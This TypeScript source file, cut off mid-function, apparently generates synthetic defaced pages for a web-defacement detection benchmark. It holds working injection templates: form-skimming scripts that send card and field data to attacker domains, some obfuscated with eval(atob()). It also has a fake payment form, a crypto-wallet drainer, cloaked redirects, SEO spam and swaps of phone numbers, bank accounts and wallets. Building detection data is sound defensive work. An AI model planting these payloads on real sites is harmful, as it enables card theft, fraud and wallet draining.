/**
 * Defacement classes, each written from public descriptions of real
 * defacements and web skimming (defacement-archive categories of Zone-H /
 * Zone-XSEC style mirrors, Magecart and web-skimming incident write-ups,
 * SEO-spam and pharma-hack clean-up guides, malicious-redirect and
 * cryptojacking reports, fake-update and tech-support-scam campaigns), not
 * from the engines' code. Each class varies its templates, wording,
 * languages, domains and positions, so that no single string or domain
 * defines it. The first twelve are the previous bench's classes, kept.
 */
import { Buffer } from "node:buffer"
import { type ChangeClass, attrTargets, replaceEverywhere, resolve, shown, textRuns, trimmed } from "./classes.js"
import { type Page, makeBank, makePay, makeWallet } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { swapPhone } from "./locales.js"
import { type El, attrInsertAt, attrValue, rels } from "./locate.js"
import { type Rng, alnum, base58, between, chance, digits, hex, int, pick, sample, shuffle } from "./rng.js"
import {
  attackerDomain, boast, brandLookalike, contactLine, greetz, libLookalike, nick, notifyLine, political,
  randomDomain, scriptPath, signature, team
} from "./words.js"

const defacement = (name: string, make: (page: Page, rng: Rng) => Change, wholePage = false): ChangeClass =>
  wholePage ? { name, kind: "defacement", make, wholePage } : { name, kind: "defacement", make }

const domain = (rng: Rng, page: Page) => attackerDomain(rng, page.site.brand)
const scheme = (rng: Rng) => pick(rng, ["https://", "https://", "http://", "//"])
const top = (page: Page) => page.spots.bodyOpenEnd
const head = (page: Page) => page.spots.headClose
/** Where attackers put script tags: end of head, start of body, end of body, or mid-page. */
const scriptSpot = (rng: Rng, page: Page) => pick(rng, [head(page), top(page), page.spots.bodyClose, slotAt(page.spots, "middle")])
export const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64")
const charCodes = (s: string) => [...s].map((c) => c.charCodeAt(0)).join(",")
const hexEscaped = (s: string) => [...s].map((c) => "\\x" + c.charCodeAt(0).toString(16).padStart(2, "0")).join("")

/** A URL string as obfuscated JavaScript source (literal, base64, char codes, hex escapes, reversed). */
export const jsUrl = (rng: Rng, url: string): string => {
  switch (int(rng, 5)) {
    case 0: return JSON.stringify(url)
    case 1: return `atob("${b64(url)}")`
    case 2: return `String.fromCharCode(${charCodes(url)})`
    case 3: return `"${hexEscaped(url)}"`
    default: return `"${[...url].reverse().join("")}".split("").reverse().join("")`
  }
}

export const scriptTag = (rng: Rng, src: string) =>
  pick(rng, [
    `<script src="${src}"></script>`,
    `<script type="text/javascript" src="${src}"></script>`,
    `<script async src="${src}"></script>`,
    `<script defer="defer" src='${src}'></script>`,
    `<script src=${src} async></script>`
  ])

export const style = (rng: Rng, css: string) => pick(rng, [`<style>${css}</style>`, `<style type="text/css">${css}</style>`, `<style media="all">\n${css}\n</style>`])

/** A message a defacer leaves: a signature, a boast, or a slogan. */
const anyMessage = (rng: Rng, who: string) => pick(rng, [() => signature(rng, who).text, () => boast(rng).text, () => political(rng).text])()

const colours = ["#000", "#000000", "black", "#111", "#0a0a0a", "#1a0000", "#001a00", "#00001a"]
const inks = ["#0f0", "#00ff00", "red", "#f00", "white", "#fff", "lime", "#ff0", "yellow", "cyan"]

/** Elements a visitor follows that point to http(s) pages (not tel:, mailto:, fragments). */
export const links = (page: Page) =>
  shown(page, "a", (e) => {
    const h = (e.attribs.href ?? "").trim()
    return h.length > 0 && !/^(#|tel:|mailto:|javascript:|sms:)/i.test(h)
  })

const externalScripts = (page: Page) => page.spots.elements.filter((e) => e.name === "script" && !e.inert && (e.attribs.src ?? "").trim().length > 0)
const stylesheets = (page: Page) => page.spots.elements.filter((e) => e.name === "link" && !e.inert && rels(e).includes("stylesheet") && (e.attribs.href ?? "").length > 0)

/** Replaces the host of `href` (resolved against the page) with `host`, keeping path and query. */
const rehost = (page: Page, href: string, host: string): string => {
  const u = resolve(page, href)
  return u === null ? `https://${host}/` : `https://${host}${u.pathname}${u.search}`
}

const blockNames = new Set(["p", "li", "dd", "td", "div", "section", "footer", "aside"])

/** Adds a line beside the contact e-mail, at the end of the block that shows it, or at a slot. */
const addBesideContact = (rng: Rng, page: Page, line: string): Change => {
  const run = page.spots.texts.find((t) => t.text.includes(page.ids.email))
  let el = run === undefined ? undefined : page.spots.elements[run.parent]
  while (el !== undefined && !(blockNames.has(el.name) && el.closeTag !== null)) el = page.spots.elements[el.parent]
  return splices(el?.closeTag == null ? insert(anySlot(rng, page.spots), `<p>${line}</p>`) : insert(el.closeTag.start, ` · ${line}`))
}

// Zone-H archive category "full replacement": the index page replaced by a defacer's page.
const fullReplacement = defacement("full page replacement", (_p, rng) => {
  const who = nick(rng)
  const crew = team(rng)
  const title = pick(rng, ["Hacked", "0wn3d", "Greetings", "Free Palestine", "Tango down", signature(rng, who).text, crew, who])
  const main = pick(rng, ["We are legion", "Site under our control", "Your system is compromised", boast(rng).text, political(rng).text, signature(rng, who).text])
  const extra = chance(rng, 0.5) ? `<p>${esc(greetz(rng))}</p>` : ""
  const bg = pick(rng, colours)
  const ink = pick(rng, inks)
  const body = pick(rng, [
    `<body style="background:${bg};color:${ink}"><center><h1>${esc(main)}</h1>${extra}<p>${contactLine(rng, who)}</p><p>${esc(crew)}</p></center></body>`,
    `<body bgcolor="${bg}" text="${ink}"><table width="100%" height="100%"><tr><td align="center" valign="middle"><img src="https://${randomDomain(rng)}/${alnum(rng, 6)}.${pick(rng, ["png", "gif", "jpg"])}" width="${between(rng, 200, 500)}"><br><font size="6">${esc(main)}</font><br>${extra}${contactLine(rng, who)}</td></tr></table></body>`,
    `<body style="margin:0;background:${bg};color:${ink};font-family:monospace"><div style="text-align:center;padding-top:20vh"><h2>${esc(crew)}</h2><p>${esc(main)}</p>${extra}</div>${chance(rng, 0.5) ? `<audio autoplay loop src="https://${randomDomain(rng)}/${alnum(rng, 5)}.mp3"></audio>` : ""}</body>`
  ])
  return { html: `${pick(rng, ["<!DOCTYPE html>", "", "<!doctype html>"])}<html><head><meta charset="utf-8"><title>${esc(title)}</title></head>${body}</html>` }
}, true)

// Zone-H archive: the defacer's signature put into the page title.
const titleSignature = defacement("'hacked by' in the title", (page, rng) => {
  const text = esc(signature(rng, pick(rng, [nick(rng), team(rng)])).text)
  const t = page.spots.title
  return t === null ? splices(insert(head(page), `<title>${text}</title>`)) : splices(replace(t, chance(rng, 0.3) ? `${text} | ${page.html.slice(t.start, t.end).trim()}` : text))
})

// Zone-H archive: a heading signature dropped into the existing page.
const h1Signature = defacement("'hacked by' in an h1", (page, rng) => {
  const text = esc(signature(rng, pick(rng, [nick(rng), team(rng)])).text)
  const tag = pick(rng, ["h1", "h1", "h2"])
  const attr = chance(rng, 0.5) ? ` style="color:${pick(rng, inks)};text-align:center"` : ""
  return splices(insert(chance(rng, 0.6) ? top(page) : anySlot(rng, page.spots), `<${tag}${attr}>${text}</${tag}>`))
})

// Zone-H archive: a sentence in the body naming the defacer and greeting friends.
const bodySignature = defacement("'hacked by' in the body text", (page, rng) => {
  const who = pick(rng, [nick(rng), team(rng)])
  const line = pick(rng, [
    `this site was ${signature(rng, who).text.toLowerCase()}. greetz to all`,
    `${signature(rng, who).text} — ${greetz(rng)}`,
    `${esc(boast(rng).text)} ${signature(rng, who).text}`
  ])
  return splices(insert(anySlot(rng, page.spots), pick(rng, [`<p>${line}</p>`, `<div>${line}</div>`, `<center><b>${line}</b></center>`])))
})

// Malware-injection reports: a script tag from an unknown domain added to the page.
const externalScript = defacement("injected external script", (page, rng) =>
  splices(insert(scriptSpot(rng, page), scriptTag(rng, `${scheme(rng)}${randomDomain(rng)}${scriptPath(rng)}`))))

// Drive-by-download and malvertising reports: an invisible iframe to an exploit or traffic-distribution host.
const hiddenIframe = defacement("hidden iframe", (page, rng) => {
  const src = `${pick(rng, ["http://", "https://"])}${randomDomain(rng)}/${pick(rng, ["in.php", "tds/go.php", "index.php", "c.html", "track"])}?${pick(rng, ["id", "sid", "r", "t"])}=${alnum(rng, 6)}`
  const attrs = pick(rng, [
    `width="1" height="1" style="visibility:hidden"`,
    `width="0" height="0" frameborder="0"`,
    `style="display:none"`,
    `style="position:absolute;left:-9999px;top:-9999px" width="300" height="250"`,
    `width="1" height="1" frameborder="0" scrolling="no" style="border:0"`
  ])
  return splices(insert(pick(rng, [top(page), page.spots.bodyClose, anySlot(rng, page.spots)]), `<iframe src="${src}" ${attrs}></iframe>`))
})

const spamTopics = [
  ["viagra-cheap", "buy viagra online"], ["cialis-generic", "generic cialis"], ["casino-online", "online casino"],
  ["payday-loans", "payday loans"], ["replica-watches", "replica watches"], ["essay-writer", "essay writing service"],
  ["cbd-oil", "cbd oil"], ["slot-gacor", "slot gacor"], ["judi-bola", "judi bola online"], ["crypto-signals", "crypto signals"],
  ["bet-bonus", "free bet bonus"], ["weight-loss", "weight loss pills"], ["cheap-followers", "buy instagram followers"],
  ["forex-robot", "forex robot"], ["tramadol-rx", "tramadol no prescription"], ["togel-hk", "togel hongkong"]
] as const

const spamLinks = (rng: Rng, n: number) =>
  sample(rng, spamTopics, n).map(([slug, words]) => `<a href="https://${pick(rng, [`${slug}-${int(rng, 99)}.${pick(rng, ["com", "net", "xyz", "top", "site"])}`, randomDomain(rng)])}/${pick(rng, ["", slug, "?ref=" + alnum(rng, 5)])}">${words}</a>`)

// SEO-spam clean-up guides: blocks of keyword links hidden from visitors but read by search engines.
const hiddenSpamLinks = defacement("hidden SEO spam links", (page, rng) => {
  const hide = pick(rng, [`style="display:none"`, `style="visibility:hidden"`, `hidden`, `style="font-size:0;height:0;overflow:hidden"`, `style="display: none !important"`])
  const tag = pick(rng, ["div", "span", "p"])
  return splices(insert(pick(rng, [page.spots.bodyClose, top(page), anySlot(rng, page.spots)]), `<${tag} ${hide}>${spamLinks(rng, between(rng, 3, 8)).join(pick(rng, [" ", " | ", "<br>"]))}</${tag}>`))
})

const images = (page: Page) => attrTargets(page, shown(page, "img"), "src").filter((t) => t.value.end > t.value.start)

// Zone-H archive: the page's picture replaced by the defacer's image hosted elsewhere.
const swappedImage = defacement("swapped image", (page, rng) => {
  const src = `${scheme(rng)}${pick(rng, [`i.${pick(rng, ["imgur-cdn.cc", "postimg.ws", "ibb-img.co", "pic-host.xyz"])}`, randomDomain(rng)])}/${pick(rng, ["defaced", "hacked", "img", "logo", alnum(rng, 6)])}${int(rng, 99)}.${pick(rng, ["jpg", "png", "gif"])}`
  const imgs = images(page)
  if (imgs.length === 0) return splices(insert(top(page), `<img src="${src}">`))
  return splices(replace(pick(rng, imgs.slice(0, 8)).value, src))
})

// Malicious-redirect reports: a meta refresh sending every visitor to a scam site.
const metaRefresh = defacement("meta-refresh redirect", (page, rng) => {
  const url = `https://${pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand)])}/${pick(rng, ["", "?r=" + alnum(rng, 6), "go/" + alnum(rng, 5), "landing.html"])}`
  const content = `${pick(rng, ["0", "0", "1", "3", "5"])};${pick(rng, ["url=", "URL=", " url=", "URL = "])}${url}`
  const tag = pick(rng, [`<meta http-equiv="refresh" content="${content}">`, `<meta http-equiv="Refresh" content="${content}" />`, `<META HTTP-EQUIV="refresh" CONTENT="${content}">`])
  return splices(insert(chance(rng, 0.75) ? head(page) : top(page), tag))
})

// Malicious-redirect reports: an inline script that changes location.
const scriptRedirect = defacement("script redirect", (page, rng) => {
  const url = jsUrl(rng, `https://${randomDomain(rng)}/?r=${int(rng, 1e6)}`)
  const body = pick(rng, [
    `window.location.href=${url}`, `window.location=${url}`, `location.replace(${url})`, `document.location.href=${url}`,
    `top.location=${url}`, `setTimeout(function(){window.location.href=${url}},${between(rng, 0, 3000)})`, `window.location.assign(${url})`
  ])
  return splices(insert(scriptSpot(rng, page), `<script>${body}</script>`))
})

// Defacement reports: a style block that hides the site's own content.
const cssHiding = defacement("CSS hiding the real content", (page, rng) =>
  splices(insert(chance(rng, 0.8) ? head(page) : top(page), style(rng, pick(rng, [
    "body > * { display: none }", "body { visibility: hidden }", "main, #content, .container, div { display:none !important }",
    "html{display:none}", "body *{visibility:hidden!important}", "#page,#main,#wrapper,.site,.content{opacity:0}"
  ])))))

// Payment-diversion fraud reports: the number callers dial or the account payers use replaced.
const phoneOrBank = defacement("changed phone number or bank account", (page, rng) => {
  const { phone, bank } = page.ids
  if (bank !== null && chance(rng, 0.5)) {
    const fresh = makeBank(rng, page.site.locale)
    return splices(...replaceEverywhere(page, [[bank.value, fresh?.value ?? bank.value.replace(/\d{4}$/, digits(rng, 4))]]))
  }
  const next = swapPhone(page.site.locale, phone, rng)
  return splices(...replaceEverywhere(page, [[phone.intl, next.intl], [phone.tel, next.tel]]))
})

// Zone-H archive category "mass defacement": a crew's index page with members, greetz, music and a notify line.
const massIndex = defacement("mass-defacement index page", (page, rng) => {
  const crew = team(rng)
  const who = nick(rng)
  const members = Array.from({ length: between(rng, 3, 10) }, () => nick(rng))
  const banner = `<pre style="color:${pick(rng, inks)}">${"=".repeat(between(rng, 20, 50))}\n   ${esc(crew.toUpperCase())}\n${"=".repeat(between(rng, 20, 50))}</pre>`
  const music = pick(rng, [
    `<audio autoplay loop src="https://${randomDomain(rng)}/${alnum(rng, 6)}.mp3"></audio>`,
    `<iframe width="0" height="0" src="https://www.youtube.com/embed/${alnum(rng, 11)}?autoplay=1&amp;loop=1" frameborder="0" allow="autoplay"></iframe>`,
    `<embed src="https://${randomDomain(rng)}/song.mp3" autostart="true" hidden="true">`, ""
  ])
  const bg = chance(rng, 0.5) ? `;background-image:url(https://${randomDomain(rng)}/${alnum(rng, 5)}.gif)` : ""
  const title = pick(rng, [signature(rng, who).text, crew, `${crew} - ${who}`, political(rng).text.slice(0, 40)])
  const html = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${esc(title)}</title><link rel="icon" href="https://${randomDomain(rng)}/${alnum(rng, 4)}.ico"></head><body style="background:${pick(rng, colours)};color:${pick(rng, inks)};font-family:${pick(rng, ["monospace", "Courier New", "Verdana", "Comic Sans MS"])}${bg}">${banner}<h2>${esc(anyMessage(rng, who))}</h2><h3>${esc(pick(rng, ["Members", "Our team", "Crew", "Anggota", "Üyeler", "Membros"]))}</h3><ul>${members.map((m) => `<li>${esc(m)}</li>`).join("")}</ul><p>${esc(greetz(rng))}</p><p>${notifyLine(rng, who)}</p><p>${contactLine(rng, who)}</p>${music}</body></html>`
  return chance(rng, 0.7) ? { html } : splices(replace({ start: page.spots.bodyOpenEnd, end: page.spots.bodyClose }, html.slice(html.indexOf(">", html.indexOf("<body")) + 1, html.indexOf("</body>"))))
}, true)

// Zone-H archive "home page defacement" kept above the original: signature, boast, greetz, contact.
const signatureBanner = defacement("defacer signature banner above the page", (page, rng) => {
  const who = nick(rng)
  const crew = team(rng)
  const parts = shuffle(rng, [
    `<h1>${esc(signature(rng, chance(rng, 0.5) ? who : `${who} | ${crew}`).text)}</h1>`,
    `<p>${esc(boast(rng).text)}</p>`,
    `<p><small>${esc(greetz(rng))}</small></p>`,
    chance(rng, 0.6) ? `<p>${contactLine(rng, who)}</p>` : ""
  ]).join("")
  const box = pick(rng, [
    `<div style="background:${pick(rng, colours)};color:${pick(rng, inks)};text-align:center;padding:20px">${parts}</div>`,
    `<center>${parts}</center>`,
    `<table width="100%" bgcolor="${pick(rng, colours)}"><tr><td align="center"><font color="${pick(rng, inks)}">${parts}</font></td></tr></table>`
  ])
  return splices(insert(chance(rng, 0.8) ? top(page) : slotAt(page.spots, "top"), box))
})

// Hacktivist defacement reports (e.g. #OpIsrael, Kashmir, Iran protest campaigns): a political statement in the attackers' language.
const hacktivist = defacement("political or hacktivist message", (page, rng) => {
  const m = political(rng)
  const dir = ["ar", "fa", "ur"].includes(m.lang) ? ` dir="rtl"` : ""
  const sign = chance(rng, 0.5) ? `<p>— ${esc(team(rng))}</p>` : ""
  const flag = chance(rng, 0.4) ? `<img src="https://${pick(rng, ["upload.wikimedia.org/wikipedia/commons/thumb/" + hex(rng, 1) + "/" + hex(rng, 2), randomDomain(rng)])}/${alnum(rng, 8)}.png" width="${between(rng, 120, 400)}">` : ""
  const block = pick(rng, [
    `<div lang="${m.lang}"${dir} style="text-align:center;font-size:${between(rng, 18, 40)}px">${flag}<h2>${esc(m.text)}</h2>${sign}</div>`,
    `<section${dir}><h1>${esc(m.text)}</h1>${flag}${sign}</section>`,
    `<p lang="${m.lang}"${dir}><strong>${esc(m.text)}</strong></p>${sign}`
  ])
  return splices(insert(chance(rng, 0.6) ? top(page) : anySlot(rng, page.spots), block))
})

// Zone-H "notify" convention: a small line with the defacer's handle, contact and the archive it was reported to.
const notifyMark = defacement("defacer contact and 'notify' line", (page, rng) => {
  const who = nick(rng)
  const line = chance(rng, 0.5) ? `${notifyLine(rng, who)} · ${contactLine(rng, who)}` : notifyLine(rng, who)
  const tag = pick(rng, [`<p>${line}</p>`, `<div class="x">${line}</div>`, `<center><font size="1">${line}</font></center>`, `<small>${line}</small>`])
  return splices(insert(pick(rng, [page.spots.bodyClose, page.spots.bodyClose, top(page), anySlot(rng, page.spots)]), tag))
})

// Magecart write-ups (e.g. British Airways, Ticketmaster): a skimmer loaded from a domain imitating the site or a library CDN.
const lookalikeSkimmer = defacement("skimmer script from a look-alike domain", (page, rng) => {
  const host = chance(rng, 0.5) ? brandLookalike(rng, page.site.brand) : libLookalike(rng)
  const url = `https://${host}${scriptPath(rng)}`
  const tag = chance(rng, 0.65)
    ? scriptTag(rng, chance(rng, 0.2) ? url.replace("https:", "") : url)
    : `<script>(function(){var s=document.createElement("script");s.${pick(rng, ["async=true;", "defer=true;", ""])}s.src=${jsUrl(rng, url)};document.${pick(rng, ["head", "body", "documentElement"])}.appendChild(s)})()</script>`
  return splices(insert(scriptSpot(rng, page), tag))
})

// Magecart inline skimmers: form fields serialised on submit or change and sent to a new domain.
const inlineSkimmer = defacement("inline skimmer exfiltrating form data", (page, rng) => {
  const url = `https://${domain(rng, page)}/${pick(rng, ["collect", "gate.php", "api/v1/log", "img/p.gif", "analytics", "c.php", "fonts/woff"])}`
  const target = jsUrl(rng, url)
  const collect = `var d={};[].forEach.call(document.querySelectorAll("input,select,textarea"),function(i){if(i.name&&i.value)d[i.name]=i.value});`
  const send = pick(rng, [
    `navigator.sendBeacon(${target},JSON.stringify(d))`,
    `fetch(${target},{method:"POST",mode:"no-cors",body:btoa(JSON.stringify(d))})`,
    `var x=new XMLHttpRequest();x.open("POST",${target});x.send(JSON.stringify(d))`,
    `new Image().src=${target}+"?d="+encodeURIComponent(btoa(JSON.stringify(d)))`,
    `var w=new WebSocket(${jsUrl(rng, url.replace("https://", "wss://"))});w.onopen=function(){w.send(JSON.stringify(d))}`
  ])
  const hook = pick(rng, [
    `document.addEventListener("submit",function(){${collect}${send}},true);`,
    `window.addEventListener("load",function(){[].forEach.call(document.querySelectorAll("button,[type=submit]"),function(b){b.addEventListener("click",function(){${collect}${send}})})});`,
    `setInterval(function(){${collect}if(Object.keys(d).length)${send}},${between(rng, 500, 5000)});`,
    `document.addEventListener("change",function(){${collect}${send}});`
  ])
  return splices(insert(scriptSpot(rng, page), `<script>${chance(rng, 0.3) ? `eval(atob("${b64(hook)}"))` : hook}</script>`))
})

// Magecart "fake payment form" write-ups: a card form injected into the page, posting to the attacker.
const fakePaymentForm = defacement("fake payment form injected", (page, rng) => {
  const action = chance(rng, 0.7) ? ` action="https://${domain(rng, page)}/${pick(rng, ["pay", "checkout/process", "secure/submit.php", "api/card"])}" method="post"` : ""
  const l = pick(rng, [
    ["Card number", "Expiry date", "CVV", "Pay now", "Secure payment"],
    ["Numéro de carte", "Date d'expiration", "Cryptogramme", "Payer", "Paiement sécurisé"],
    ["Kartennummer", "Gültig bis", "Prüfnummer", "Jetzt bezahlen", "Sichere Zahlung"],
    ["Número de tarjeta", "Caducidad", "CVV", "Pagar", "Pago seguro"],
    ["Número do cartão", "Validade", "CVV", "Pagar", "Pagamento seguro"]
  ] as const)
  const fields = `<label>${l[0]} <input name="${pick(rng, ["cc_number", "cardnumber", "card[number]", "ccnum"])}" autocomplete="cc-number"></label><label>${l[1]} <input name="${pick(rng, ["exp", "cc_exp", "expiry"])}" placeholder="MM/YY"></label><label>${l[2]} <input name="${pick(rng, ["cvv", "cvc", "cc_cid"])}" maxlength="4"></label><button type="submit">${l[3]}</button>`
  const capture = action === "" ? `<script>document.addEventListener("submit",function(e){new Image().src=${jsUrl(rng, `https://${domain(rng, page)}/i.gif`)}+"?c="+btoa(new FormData(e.target).get("cvv")||"")},true)</script>` : ""
  const form = `<form class="${pick(rng, ["payment-form", "checkout", "secure-pay", "cc-form"])}"${action}><h3>${l[4]}</h3>${fields}</form>${capture}`
  const wrapped = chance(rng, 0.4) ? `<div style="position:fixed;top:10%;left:50%;transform:translateX(-50%);z-index:10000;background:#fff;padding:24px;box-shadow:0 0 20px #000">${form}</div>` : form
  return splices(insert(anySlot(rng, page.spots), wrapped))
})

const forms = (page: Page) => page.spots.elements.filter((e) => e.name === "form" && !e.inert && e.inBody)

const formActionTo = (page: Page, el: El, url: string): Splice => {
  const v = attrValue(page.html, el, "action")
  return v === null ? insert(attrInsertAt(el), ` action="${url}"`) : replace(v, url)
}

// Magecart / phishing write-ups: an existing form's action now posts to a new domain.
const formActionSwap = defacement("form action swapped to a new domain", (page, rng) => {
  const fs = forms(page)
  const chosen = chance(rng, 0.3) ? fs : [pick(rng, fs)]
  return splices(...chosen.map((f) => formActionTo(page, f, `https://${domain(rng, page)}/${pick(rng, ["submit", "subscribe", "login.php", "post", "form/handler", alnum(rng, 6) + ".php"])}`)))
})

// Supply-chain / Magecart write-ups: an existing script's source moved to a look-alike host, path unchanged.
const scriptSrcSwap = defacement("script src swapped to a look-alike domain", (page, rng) => {
  const targets = attrTargets(page, externalScripts(page), "src")
  if (targets.length === 0) return splices(insert(head(page), scriptTag(rng, `https://${libLookalike(rng)}${scriptPath(rng)}`)))
  const t = pick(rng, targets)
  const host = chance(rng, 0.5) ? libLookalike(rng) : brandLookalike(rng, page.site.brand)
  return splices(replace(t.value, rehost(page, page.html.slice(t.value.start, t.value.end), host)))
})

// Pharma-hack clean-up guides: cloaked pharmacy/casino text positioned off-screen or shrunk to nothing.
const cloakedText = defacement("cloaked pharma or casino text", (page, rng) => {
  const cloak = pick(rng, [
    "position:absolute;left:-9999px;top:-9999px", "position:absolute;top:-1000px;left:-1000px;width:1px;overflow:hidden",
    "height:0;overflow:hidden", "font-size:1px;color:#fff;line-height:0", "opacity:0;position:absolute;z-index:-1", "text-indent:-9999px;overflow:hidden;height:1px"
  ])
  const text = pick(rng, [
    `Buy ${pick(rng, ["viagra", "cialis", "levitra", "tramadol", "xanax", "phentermine"])} online without prescription. Cheap ${pick(rng, ["generic pills", "meds", "pharmacy"])} with fast delivery.`,
    `Best ${pick(rng, ["online casino", "slot sites", "sportsbook", "poker rooms"])} ${2026}: ${between(rng, 100, 500)}% welcome bonus, no deposit free spins.`,
    `Situs ${pick(rng, ["slot gacor", "judi bola", "togel online"])} terpercaya ${2026}, deposit pulsa tanpa potongan.`,
    `${pick(rng, ["Payday loans", "Instant loans", "Bad credit loans"])} approved in minutes, no credit check.`
  ])
  const tag = pick(rng, ["div", "p", "span"])
  return splices(insert(anySlot(rng, page.spots), `<${tag} style="${cloak}">${text} ${spamLinks(rng, between(rng, 2, 6)).join(" ")}</${tag}>`))
})

// SEO-spam reports: visible doorway content stuffed with keywords and outbound links.
const doorwayBlock = defacement("doorway spam content block", (page, rng) => {
  const topic = pick(rng, [
    ["Best online casinos", "Play the top-rated slots and claim your bonus today. Our experts review every casino so you can win more."],
    ["Cheap essay writing", "Get your essay written by professionals. Plagiarism-free papers delivered on time, any subject, any deadline."],
    ["Crypto investment opportunity", "Join thousands earning daily profits with our automated trading bot. Withdraw anytime, guaranteed returns."],
    ["Slot gacor hari ini", "Daftar sekarang di situs slot online terpercaya dengan RTP tertinggi dan bonus new member 100%."],
    ["Buy followers and likes", "Instant delivery of real followers for Instagram, TikTok and YouTube. Cheapest prices guaranteed."],
    ["Replica luxury watches", "Swiss-grade replica watches at wholesale prices. Free worldwide shipping on all orders."]
  ] as const)
  const paras = Array.from({ length: between(rng, 1, 3) }, () => `<p>${topic[1]} ${spamLinks(rng, between(rng, 2, 5)).join(", ")}</p>`).join("")
  return splices(insert(pick(rng, [page.spots.bodyClose, anySlot(rng, page.spots)]), `<div class="${pick(rng, ["seo", "partners", "links", "sponsored", "footer-links"])}"><h2>${topic[0]}</h2>${paras}</div>`))
})

const jpBrands = ["ルイヴィトン", "シャネル", "グッチ", "ロレックス", "エルメス", "プラダ", "ナイキ", "オメガ", "バレンシアガ", "セリーヌ"]
const jpItems = ["財布", "バッグ", "時計", "スニーカー", "腕時計", "コピー", "ベルト", "ネックレス"]
const jpSell = ["激安", "通販", "新作", "人気", "送料無料", "正規品", "最安値", "スーパーコピー", "専門店", "口コミ"]
const jpPhrase = (rng: Rng) => `${pick(rng, jpBrands)} ${pick(rng, jpItems)} ${pick(rng, jpSell)}${chance(rng, 0.5) ? " " + pick(rng, jpSell) : ""}`

// Japanese keyword hack (search-console and clean-up write-ups): Japanese product spam and links, often in the title too.
const japaneseHack = defacement("Japanese keyword hack", (page, rng) => {
  const own = chance(rng, 0.5)
  const href = () => own ? `/${pick(rng, ["?", "shop/", "item/", ""])}${alnum(rng, 8)}${pick(rng, [".html", "", ".php"])}` : `https://${randomDomain(rng)}/${alnum(rng, 6)}.html`
  const list = Array.from({ length: between(rng, 4, 12) }, () => `<li><a href="${href()}">${jpPhrase(rng)}</a></li>`).join("")
  const out: Array<Splice> = [insert(pick(rng, [top(page), anySlot(rng, page.spots), page.spots.bodyClose]), `<div lang="ja"><h2>【${pick(rng, ["公式", "激安", "2026新作"])}】${jpPhrase(rng)}</h2><p>${jpPhrase(rng)}、${jpPhrase(rng)}。</p><ul>${list}</ul></div>`)]
  const t = page.spots.title
  if (chance(rng, 0.6)) out.push(t === null ? insert(head(page), `<title>${jpPhrase(rng)}</title>`) : replace(t, `【${pick(rng, ["公式", "激安"])}】${jpPhrase(rng)}`))
  return { splices: out }
})

// Conditional-redirect write-ups: only mobile visitors, search-engine referrals or first visits are redirected.
const conditionalRedirect = defacement("conditional redirect script", (page, rng) => {
  const url = jsUrl(rng, `https://${randomDomain(rng)}/${pick(rng, ["", "?s=" + alnum(rng, 6), "go.php?id=" + int(rng, 9999)])}`)
  const go = pick(rng, [`window.location.href=${url}`, `location.replace(${url})`, `window.top.location=${url}`, `setTimeout(function(){location.href=${url}},${between(rng, 200, 4000)})`])
  const cond = pick(rng, [
    `/android|iphone|ipad|mobile/i.test(navigator.userAgent)`,
    `document.referrer.indexOf("google")>-1||document.referrer.indexOf("bing")>-1`,
    `!/(^|; )_${alnum(rng, 3)}=/.test(document.cookie)`,
    `/Win/.test(navigator.platform)&&!/bot|crawl|spider/i.test(navigator.userAgent)`,
    `new Date().getHours()>${between(rng, 0, 12)}`
  ])
  const cookie = cond.startsWith("!") ? `document.cookie="_${alnum(rng, 3)}=1;max-age=86400;path=/";` : ""
  return splices(insert(scriptSpot(rng, page), `<script${chance(rng, 0.3) ? ` type="text/javascript"` : ""}>if(${cond}){${cookie}${go}}</script>`))
})

// Donation-scam and clipper reports: the crypto address visitors pay to replaced (sometimes keeping its first and last characters).
const walletSwap = defacement("crypto wallet address swapped", (page, rng) => {
  const w = page.ids.wallet
  if (w === null) {
    const fresh = makeWallet(rng)
    return addBesideContact(rng, page, `${esc(page.site.words.donate)}: ${fresh.coin} ${fresh.address}`)
  }
  const fresh = makeWallet(rng, w.coin).address
  const next = chance(rng, 0.4) ? w.address.slice(0, 5) + fresh.slice(5, -4) + w.address.slice(-4) : fresh
  return splices(...replaceEverywhere(page, [[w.address, next]]))
})

// Web3 drainer reports (e.g. compromised connect-kit and hijacked project sites): a wallet-connect prompt and drainer script.
const drainer = defacement("crypto-drainer wallet prompt", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), `${pick(rng, ["web3", "wallet", "claim", "airdrop", "connect"])}-${pick(rng, ["connect", "verify", "rewards", "portal", "sync"])}.${pick(rng, ["xyz", "app", "io", "site", "online"])}`])
  const script = chance(rng, 0.7)
    ? scriptTag(rng, `https://${host}/${pick(rng, ["connect", "web3modal", "seaport", "wallet", "main"])}${pick(rng, [".js", ".min.js", "-kit.js"])}`)
    : `<script>window.addEventListener("load",function(){if(window.ethereum){window.ethereum.request({method:"eth_requestAccounts"}).then(function(a){fetch(${jsUrl(rng, `https://${host}/api/wallet`)},{method:"POST",body:a[0]})})}})</script>`
  const text = pick(rng, ["Connect your wallet to claim your airdrop", "Claim your free tokens now", "Verify your wallet to continue", "Exclusive mint: connect wallet", "Reward available: connect wallet to receive"])
  const button = pick(rng, [
    `<div style="position:fixed;bottom:20px;right:20px;z-index:99999;background:#6c2bd9;color:#fff;padding:14px;border-radius:10px"><b>${text}</b> <button>Connect Wallet</button></div>`,
    `<section class="claim"><h2>${text}</h2><button class="connect-wallet">Connect Wallet</button></section>`,
    ""
  ])
  return splices(insert(scriptSpot(rng, page), script), insert(anySlot(rng, page.spots), button))
})

// Phone-swap fraud reports: the contact number in its national format replaced (with or without the tel: link).
const nationalPhoneSwap = defacement("phone number swapped (national format)", (page, rng) => {
  const p = page.ids.phone
  const next = swapPhone(page.site.locale, p, rng)
  const pairs: Array<readonly [string, string]> = [[p.national, next.national]]
  if (chance(rng, 0.6)) pairs.push([p.tel, next.tel])
  if (chance(rng, 0.3)) pairs.push([p.intl, next.intl])
  return splices(...replaceEverywhere(page, pairs))
})

// Business-e-mail-compromise and contact-swap reports: the contact address replaced by a look-alike or free-mail address.
const emailSwap = defacement("e-mail address swapped", (page, rng) => {
  const e = page.ids.email
  const [local] = e.split("@")
  const next = pick(rng, [
    `${local}@${brandLookalike(rng, page.site.brand)}`,
